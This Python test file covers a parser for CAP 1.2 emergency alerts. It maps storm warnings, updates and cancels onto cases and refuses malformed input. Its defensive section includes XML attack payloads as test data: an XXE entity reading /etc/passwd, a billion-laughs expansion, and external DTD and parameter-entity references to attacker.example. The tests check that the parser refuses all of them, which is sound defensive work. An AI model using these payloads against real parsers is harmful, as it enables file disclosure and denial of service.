"""alerting/interop/cap_in.py: CAP 1.2 documents parsed without DTDs, validated, mapped onto
cases."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from alerting.interop.cap_in import CapArea, case_data, location_of, message_key, read_cap
from hub.errors import BadRequest

HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n'
NS = "urn:oasis:names:tc:emergency:cap:1.2"

#: Shaped like the CAP 1.2 specification's examples: a storm warning with a polygon.
STORM = f"""{HEAD}<alert xmlns="{NS}">
  <identifier>KSTO1055887203</identifier>
  <sender>KSTO@NWS.NOAA.GOV</sender>
  <sent>2026-12-01T14:57:00-07:00</sent>
  <status>Actual</status>
  <msgType>Alert</msgType>
  <scope>Public</scope>
  <info>
    <category>Met</category>
    <event>SEVERE THUNDERSTORM</event>
    <responseType>Shelter</responseType>
    <urgency>Immediate</urgency>
    <severity>Severe</severity>
    <certainty>Observed</certainty>
    <eventCode><valueName>SAME</valueName><value>SVR</value></eventCode>
    <expires>2026-12-01T16:00:00-07:00</expires>
    <senderName>NATIONAL WEATHER SERVICE SACRAMENTO CA</senderName>
    <headline>SEVERE THUNDERSTORM WARNING</headline>
    <description>AT 254 PM PDT, RADAR INDICATED A SEVERE THUNDERSTORM OVER SOUTH CENTRAL
ALPINE COUNTY, MOVING SOUTHEAST AT 5 MPH. HAIL UP TO ONE AND ONE-HALF INCHES.</description>
    <instruction>TAKE COVER IN A SUBSTANTIAL SHELTER UNTIL THE STORM PASSES.</instruction>
    <contact>BARUFFALDI/JUSKIE</contact>
    <area>
      <areaDesc>EXTREME NORTH CENTRAL TUOLUMNE COUNTY IN CALIFORNIA</areaDesc>
      <polygon>38.47,-120.14 38.34,-119.95 38.52,-119.74 38.62,-119.89 38.47,-120.14</polygon>
      <geocode><valueName>SAME</valueName><value>006109</value></geocode>
    </area>
  </info>
</alert>"""

#: An update of it in two languages with a circle, referencing the first message.
STORM_UPDATE = f"""{HEAD}<alert xmlns="{NS}">
  <identifier>KSTO1055887299</identifier>
  <sender>KSTO@NWS.NOAA.GOV</sender>
  <sent>2026-12-01T15:20:00-07:00</sent>
  <status>Actual</status>
  <msgType>Update</msgType>
  <scope>Public</scope>
  <references>KSTO@NWS.NOAA.GOV,KSTO1055887203,2026-12-01T14:57:00-07:00</references>
  <info>
    <language>en-US</language>
    <category>Met</category>
    <event>SEVERE THUNDERSTORM</event>
    <urgency>Immediate</urgency>
    <severity>Extreme</severity>
    <certainty>Observed</certainty>
    <headline>SEVERE THUNDERSTORM WARNING EXTENDED</headline>
    <web>https://alerts.example.org/KSTO1055887299</web>
    <area><areaDesc>Twain Harte</areaDesc><circle>38.04,-120.23 8.0</circle></area>
  </info>
  <info>
    <language>fr-CA</language>
    <category>Met</category>
    <event>ORAGE VIOLENT</event>
    <urgency>Immediate</urgency>
    <severity>Extreme</severity>
    <certainty>Observed</certainty>
    <headline>ALERTE D'ORAGE VIOLENT PROLONGÉE</headline>
    <instruction>Restez à l'abri.</instruction>
  </info>
</alert>"""

CANCEL = f"""{HEAD}<alert xmlns="{NS}">
  <identifier>KSTO1055887300</identifier>
  <sender>KSTO@NWS.NOAA.GOV</sender>
  <sent>2026-12-01T16:05:00-07:00</sent>
  <status>Actual</status>
  <msgType>Cancel</msgType>
  <scope>Public</scope>
  <note>The storm has passed.</note>
  <references>KSTO@NWS.NOAA.GOV,KSTO1055887203,2026-12-01T14:57:00-07:00
    KSTO@NWS.NOAA.GOV,KSTO1055887299,2026-12-01T15:20:00-07:00</references>
</alert>"""


def with_status(doc: str, status: str) -> str:
    return doc.replace("<status>Actual</status>", f"<status>{status}</status>")


def test_a_warning_becomes_a_case_with_its_area_and_cap_values() -> None:
    message = read_cap(STORM.encode())
    assert (message.sender, message.identifier, message.msg_type) == \
        ("KSTO@NWS.NOAA.GOV", "KSTO1055887203", "Alert")
    data = case_data(message)
    assert data["title"] == "SEVERE THUNDERSTORM WARNING" and data["severity"] == "major"
    assert data["exercise"] is False and data["category"] == "incident"
    assert data["description"].startswith("[en-US] SEVERE THUNDERSTORM WARNING\nAT 254 PM")
    assert "Instruction: TAKE COVER" in data["description"]
    loc = data["location"]
    assert loc["place"] == "EXTREME NORTH CENTRAL TUOLUMNE COUNTY IN CALIFORNIA · SAME=006109"
    assert (loc["lat"], loc["lon"]) == (38.4875, -119.93)  # the polygon's centroid
    fields = data["fields"]
    assert fields["cap_event"] == "SEVERE THUNDERSTORM" and fields["cap_urgency"] == "Immediate"
    assert fields["cap_certainty"] == "Observed" and fields["cap_category"] == "Met"
    assert fields["cap_sender_name"] == "NATIONAL WEATHER SERVICE SACRAMENTO CA"
    assert data["lang"] == "en"  # one language ("en-US"): the case says it


def test_every_language_is_kept_and_the_worst_severity_wins() -> None:
    message = read_cap(STORM_UPDATE.encode())
    assert message.references == [("KSTO@NWS.NOAA.GOV", "KSTO1055887203",
                                    "2026-12-01T14:57:00-07:00")]
    data = case_data(message)
    assert data["severity"] == "critical"
    assert "[en-US] SEVERE THUNDERSTORM WARNING EXTENDED" in data["description"]
    assert "[fr-CA] ALERTE D'ORAGE VIOLENT PROLONGÉE" in data["description"]
    assert "Instruction: Restez à l'abri." in data["description"]
    assert data["fields"]["cap_languages"] == "en-US fr-CA"
    assert "lang" not in data  # two languages in one description: left to detection
    assert data["fields"]["cap_web"] == "https://alerts.example.org/KSTO1055887299"
    assert data["location"] == {"place": "Twain Harte", "lat": 38.04, "lon": -120.23}


def test_a_cancel_needs_no_info_and_lists_what_it_cancels() -> None:
    message = read_cap(CANCEL.encode())
    assert message.msg_type == "Cancel" and message.note == "The storm has passed."
    assert [r[1] for r in message.references] == ["KSTO1055887203", "KSTO1055887299"]


@pytest.mark.parametrize(("status", "exercise"), [("Actual", False), ("Exercise", True),
                                                  ("Test", True)])
def test_exercise_and_test_messages_are_never_taken_as_real(status: str, exercise: bool) -> None:
    data = case_data(read_cap(with_status(STORM, status).encode()))
    assert data["exercise"] is exercise and data["fields"]["cap_status"] == status


@pytest.mark.parametrize(("doc", "says"), [
    (with_status(STORM, "Draft"), "status Draft is not an event"),
    (with_status(STORM, "System"), "status System is not an event"),
    (STORM.replace("<msgType>Alert</msgType>", "<msgType>Ack</msgType>"), "msgType Ack"),
    (STORM.replace("<msgType>Alert</msgType>", "<msgType>Error</msgType>"), "msgType Error"),
    (with_status(STORM, "Real"), "at alert/status"),
    (STORM.replace("<identifier>KSTO1055887203</identifier>", ""), "not a valid CAP 1.2"),
    (STORM.replace("-07:00</sent>", "Z</sent>"), "at alert/sent"),
    (STORM.replace("<severity>Severe</severity>", "<severity>Bad</severity>"),
     "alert/info/severity"),
    (STORM.replace(NS, "urn:oasis:names:tc:emergency:cap:1.1"), "root element"),
    (STORM.replace("</alert>", ""), "not well-formed XML at line"),
    ("<alert>", "not well-formed"),
    ("", "not well-formed"),
])
def test_a_document_the_hub_does_not_take_is_refused_saying_why(doc: str, says: str) -> None:
    with pytest.raises(BadRequest, match=says):
        read_cap(doc.encode())


XXE = f"""{HEAD}<!DOCTYPE alert [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<alert xmlns="{NS}"><identifier>&xxe;</identifier></alert>"""
LAUGHS = HEAD + "<!DOCTYPE lolz [<!ENTITY lol \"lol\">" + "".join(
    f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i else "&lol;" * 10}">'
    for i in range(9)) + f"]>\n<alert xmlns=\"{NS}\"><note>&lol8;</note></alert>"
EXTERNAL_DTD = f"""{HEAD}<!DOCTYPE alert SYSTEM "http://attacker.example/cap.dtd">
<alert xmlns="{NS}"/>"""
PARAMETER = f"""{HEAD}<!DOCTYPE alert [<!ENTITY % remote SYSTEM "http://attacker.example/x">
%remote;]><alert xmlns="{NS}"/>"""


@pytest.mark.parametrize("doc", [XXE, LAUGHS, EXTERNAL_DTD, PARAMETER])
def test_entities_and_dtds_are_refused_before_anything_expands(doc: str) -> None:
    with pytest.raises(BadRequest, match="DTDs, entities and external references are refused"):
        read_cap(doc.encode())


def test_a_message_is_known_by_its_sender_and_identifier() -> None:
    assert message_key("a", "b", "p") == message_key("a", "b", "p") \
        != message_key("a", "c", "p")
    assert message_key("a\nb", "c", "p") != message_key("a", "b\nc", "p")
    assert message_key("a", "b", "p") != message_key("a", "b", "q")
    assert len(message_key("x" * 500, "y" * 500, "p")) == 36


@pytest.mark.parametrize(("area", "where"), [
    (CapArea("here", circles=["10.5,20.25 3"]), (10.5, 20.25)),
    (CapArea("here", circles=["junk"], polygons=["0,0 0,2 2,2 2,0 0,0"]), (1.0, 1.0)),
    (CapArea("here", circles=["91,0 1"]), None),
    (CapArea("here", polygons=["a,b c,d"]), None),
])
def test_where_an_area_is(area: CapArea, where: tuple[float, float] | None) -> None:
    loc = location_of(area)
    assert loc is not None and loc["place"] == "here"
    assert ((loc["lat"], loc["lon"]) if "lat" in loc else None) == where


@given(st.binary(max_size=400) | st.text(max_size=400).map(str.encode))
def test_any_bytes_read_or_are_refused_as_a_bad_request(body: bytes) -> None:
    try:
        read_cap(body)
    except BadRequest as exc:
        assert str(exc)


@given(st.text(min_size=1, max_size=200).filter(lambda t: t.strip()))
def test_any_headline_text_survives_into_a_case(headline: str) -> None:
    from xml.sax.saxutils import escape
    clean = "".join(c for c in headline if c.isprintable() or c in "\t")
    if not clean.strip() or any(0xD800 <= ord(c) <= 0xDFFF for c in clean):
        return
    doc = STORM.replace("<headline>SEVERE THUNDERSTORM WARNING</headline>",
                        f"<headline>{escape(clean)}</headline>")
    data = case_data(read_cap(doc.encode("utf-8")))
    assert data["title"] and len(data["title"]) <= 200


def test_the_budget_is_checked_before_the_schema() -> None:
    """Issue 24, finding 3: limits on elements, depth and attributes, each named."""
    from xml.etree.ElementTree import Element, SubElement, tostring

    from alerting.interop.cap_in import MAX_ATTRIBUTES, MAX_DEPTH, MAX_ELEMENTS, parse_within_budget

    def check_budget(root: Element) -> None:
        parse_within_budget(tostring(root))

    root = Element("alert", {f"a{i}": "x" for i in range(MAX_ATTRIBUTES)})
    check_budget(root)
    root.set("one-more", "x")
    with pytest.raises(BadRequest, match=f"{MAX_ATTRIBUTES + 1} attributes"):
        check_budget(root)
    deep = top = Element("alert")
    for _ in range(MAX_DEPTH - 1):
        deep = SubElement(deep, "info")
    check_budget(top)
    SubElement(deep, "area")
    with pytest.raises(BadRequest, match="deeper"):
        check_budget(top)
    wide = Element("alert")
    for _ in range(MAX_ELEMENTS - 1):
        SubElement(wide, "info")
    check_budget(wide)
    SubElement(wide, "info")
    with pytest.raises(BadRequest, match="elements"):
        check_budget(wide)


@pytest.mark.parametrize("encoding", ["UTF-7", "UTF-32", "no-such-encoding", "UTF-16"])
def test_an_encoding_the_parser_cannot_read_is_a_400(encoding: str) -> None:
    """Issue 24, finding 14: these answered 500."""
    doc = (f'<?xml version="1.0" encoding="{encoding}"?>'
           '<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"/>').encode()
    with pytest.raises(BadRequest):
        read_cap(doc)


@given(st.binary(max_size=400))
def test_any_bytes_are_read_or_refused_with_a_400(body: bytes) -> None:
    try:
        read_cap(b'<?xml version="1.0" encoding="' + body[:12] + b'"?>' + body[12:])
    except BadRequest:
        pass
